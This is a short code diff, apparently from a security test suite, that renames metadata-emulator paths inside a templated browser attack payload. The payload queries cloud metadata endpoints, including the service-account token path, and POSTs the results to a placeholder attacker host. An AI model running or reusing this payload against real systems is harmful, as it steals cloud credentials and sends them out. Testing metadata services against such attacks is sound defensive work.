@@ -32,7 +32,7 @@ const paths = [
   "/computeMetadata/v1/instance/service-accounts/default/token",
   "/computeMetadata/v1/?recursive=true",
   "/computeMetadata/v1/instance/id",
-  "/emulator/", "/emulator/requests", "/emulator/document",
+  "/emulator/", "/emulator/v1/requests", "/emulator/v1/document",
 ];
 const report = (what) => fetch("http://%(attacker)s:%(report)d/", {
   method: "POST", mode: "no-cors", body: JSON.stringify(what) });
@@ -48,7 +48,7 @@ async function attack() {
       await ask(path, { headers: { "Metadata-Flavor": "Google" }, cache: "no-store" });
       await ask(path, { cache: "no-store" });
     }
-    await ask("/emulator/document/instance/attributes/a", { method: "PUT", body: '"x"' });
+    await ask("/emulator/v1/document/instance/attributes/a", { method: "PUT", body: '"x"' });
     await new Promise((done) => setTimeout(done, 500));
   }
 }
